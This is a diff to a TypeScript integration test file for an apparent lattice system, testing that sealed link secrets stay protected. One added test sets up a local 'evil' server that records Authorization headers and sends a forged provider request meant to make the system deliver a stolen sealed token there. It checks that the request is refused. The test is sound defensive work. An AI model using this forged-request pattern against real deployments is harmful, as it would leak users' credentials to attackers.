@@ -6,11 +6,12 @@ import type { AddressInfo } from 'node:net';
 import os from 'node:os';
 import path from 'node:path';
 import { promisify } from 'node:util';
+import { createCurve } from 'nkeys.js';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { connectControl, type ControlClient } from '../lattice/control/index.ts';
 import { openLinks } from '../lattice/links/index.ts';
 import { createRpcClient } from '../lattice/rpc/index.ts';
-import { decodeEvent, type ActorRequest, type LatticeEvent } from '../lattice/wire/index.ts';
+import { decode, decodeEvent, encode, type ActorRequest, type LatticeEvent, type ProviderReply, type ProviderRequest } from '../lattice/wire/index.ts';
 import { deployExample, spawnHost, startNats, TRELLIS_BIN, uniqueLattice, type HostProcess, type NatsServer } from './harness/index.ts';
 
 const run = promisify(execFile);
@@ -95,7 +96,11 @@ describe('sealed link secrets on real processes', () => {
     const malformed = await cli(['link', 'put', 'fetcher', 'http-client', '--secret', PLAIN, ...connection()]);
     expect(malformed.code).toBe(2);
     expect(malformed.stderr).toContain('--secret number 1 is not name=value');
-    const put = await cli(['link', 'put', 'fetcher', 'http-client', '--secret', `header.authorization=Bearer ${PLAIN}`, 'mode=test', ...connection(), '--json']);
+    // http-client sends its secrets over the network: each must name where it may go.
+    const unbound = await cli(['link', 'put', 'fetcher', 'http-client', '--secret', `header.authorization=Bearer ${PLAIN}`, ...connection()]);
+    expect(unbound.code).toBe(2);
+    expect(unbound.stderr).toContain('--secret-host');
+    const put = await cli(['link', 'put', 'fetcher', 'http-client', '--secret', `header.authorization=Bearer ${PLAIN}`, '--secret-host', new URL(upstream).host, 'mode=test', ...connection(), '--json']);
     expect(put.code, put.stderr).toBe(0);
     expect(JSON.parse(put.stdout)).toMatchObject({ actor: 'fetcher', config: { mode: 'test' }, secrets: { 'header.authorization': '***' } });
     // What anyone who may read the bucket reads: ciphertext only.
@@ -125,6 +130,29 @@ describe('sealed link secrets on real processes', () => {
     expect(seen.find((s) => s.path === '/thief')).toBeUndefined();
   });
 
+  it('secrets - a forged provider request cannot send a secret anywhere but where it was sealed for', async () => {
+    // Any host may publish provider requests and name any actor and any allowedHosts: the
+    // attacker copies the victim's sealed value from the links bucket and names its own server.
+    const stolen: (string | undefined)[] = [];
+    const evil = http.createServer((req, res) => {
+      stolen.push(req.headers.authorization);
+      res.end('thanks');
+    });
+    await new Promise<void>((r) => evil.listen(0, '127.0.0.1', r));
+    try {
+      const evilHost = `127.0.0.1:${(evil.address() as AddressInfo).port}`;
+      const link = (await (await openLinks(client.nc, client.subjects)).get('fetcher', 'http-client'))!;
+      const forged: ProviderRequest = { actor: 'fetcher', op: 'send', config: {}, secrets: link.secrets, allowedHosts: [evilHost], args: [{ method: 'GET', url: `http://${evilHost}/`, headers: [], body: new Uint8Array() }] };
+      const msg = await client.nc.request(client.subjects.provider('http-client'), encode(forged), { timeout: 10_000 });
+      const reply = decode<ProviderReply>(msg.data, 'reply');
+      expect(reply).toMatchObject({ ok: false, error: { code: 'TRELLIS_SANDBOX_VIOLATION' } });
+      expect(JSON.stringify(reply)).toContain(`may be sent only to ${new URL(upstream).host}`);
+      expect(stolen).toEqual([]);
+    } finally {
+      evil.close();
+    }
+  });
+
   it('secrets - no output of any process, no event and no inventory holds the plaintext', async () => {
     outputs.push(JSON.stringify(await client.getInventory(host.id)));
     outputs.push(JSON.stringify(events));
@@ -141,10 +169,44 @@ describe('sealed link secrets on real processes', () => {
     const elsewhere = ['--nats', nats.url, '--lattice', `${lattice}nokey`];
     const file = path.join(dir, 'secret.txt');
     await writeFile(file, `${PLAIN}\n`);
-    const put = await cli(['link', 'put', 'fetcher', 'http-client', '--secret-file', `token=${file}`, ...elsewhere]);
+    const put = await cli(['link', 'put', 'fetcher', 'http-client', '--secret-file', `token=${file}`, '--secret-host', 'api.example.com', ...elsewhere]);
     expect(put.code).not.toBe(0);
     expect(put.stderr).toContain('no secrets key to seal to');
     const get = await cli(['link', 'get', ...elsewhere, '--json']);
     expect(JSON.parse(get.stdout)).toEqual([]);
+  });
+
+  it('secrets - link put seals only to the key given with --recipient, says which, and refuses a changed lattice key unconfirmed', async () => {
+    const current = (await cli(['secrets', 'key', 'get', ...connection(), '--json'])).stdout;
+    const key = JSON.parse(current).publicKey as string;
+    const args = ['link', 'put', 'fetcher', 'http-client', '--secret', `header.authorization=Bearer ${PLAIN}`, '--secret-host', new URL(upstream).host, ...connection()];
+    const other = createCurve().getPublicKey();
+    const wrong = await cli([...args, '--recipient', other]);
+    expect(wrong.code).not.toBe(0);
+    expect(wrong.stderr).toContain(`not the --recipient ${other}`);
+    const right = await cli([...args, '--recipient', key]);
+    expect(right.code, right.stderr).toBe(0);
+    expect(right.stderr).toContain(`sealed to lattice secrets key ${key}`);
+    // Someone who may write the config bucket swaps the key: the next put notices.
+    expect((await cli(['secrets', 'key', 'set', other, ...connection()])).code).toBe(0);
+    const swapped = await cli(args);
+    expect(swapped.code).not.toBe(0);
+    expect(swapped.stderr).toContain(`changed since this link's secrets were sealed (to ${key}; now ${other})`);
+    expect((await cli([...args, '--recipient', other])).code).toBe(0);
+  });
+
+  it('secrets - a put without --secret keeps the link\'s secrets; --drop-secret removes one', async () => {
+    const links = await openLinks(client.nc, client.subjects);
+    const before = (await links.get('fetcher', 'http-client'))!.secrets!;
+    expect(Object.keys(before)).toEqual(['header.authorization']);
+    const put = await cli(['link', 'put', 'fetcher', 'http-client', 'mode=other', ...connection()]);
+    expect(put.code, put.stderr).toBe(0);
+    const kept = (await links.get('fetcher', 'http-client'))!;
+    expect(kept.config).toEqual({ mode: 'other' });
+    expect(kept.secrets).toEqual(before);
+    const missing = await cli(['link', 'put', 'fetcher', 'http-client', '--drop-secret', 'nope', ...connection()]);
+    expect(missing.stderr).toContain('has no secret nope');
+    expect((await cli(['link', 'put', 'fetcher', 'http-client', '--drop-secret', 'header.authorization', ...connection()])).code).toBe(0);
+    expect((await links.get('fetcher', 'http-client'))!.secrets).toBeUndefined();
   });
 });
